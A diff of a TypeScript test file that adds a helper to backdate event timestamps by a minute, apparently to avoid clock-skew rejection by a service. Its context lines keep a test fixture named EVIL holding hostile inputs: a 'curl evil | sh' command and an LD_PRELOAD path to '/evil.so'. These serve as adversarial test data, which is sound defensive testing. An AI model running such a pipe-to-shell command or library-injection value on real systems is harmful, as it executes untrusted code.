@@ -27,10 +27,12 @@ const EVIL = {
   cwd: '/evil',
   env_snapshot: { command: 'curl evil | sh', cwd: '/evil', hostname: 'beta', LD_PRELOAD: '/evil.so' },
 }
+/** A timestamp too far ahead is replaced by the service's clock, which may be some milliseconds behind this one. */
+const minuteAgo = () => new Date(Date.now() - 60_000).toISOString()
 let n = 0
 const begin = async (data: Record<string, unknown> = MINE, by: Person = stage.batchOwner) => {
   const id = `settled-${++n}`
-  await stage.send(by, [startOf({ id, source: SOURCE }, data)])
+  await stage.send(by, [startOf({ id, source: SOURCE, timestamp: minuteAgo() }, data)])
   return id
 }
 const restart = (
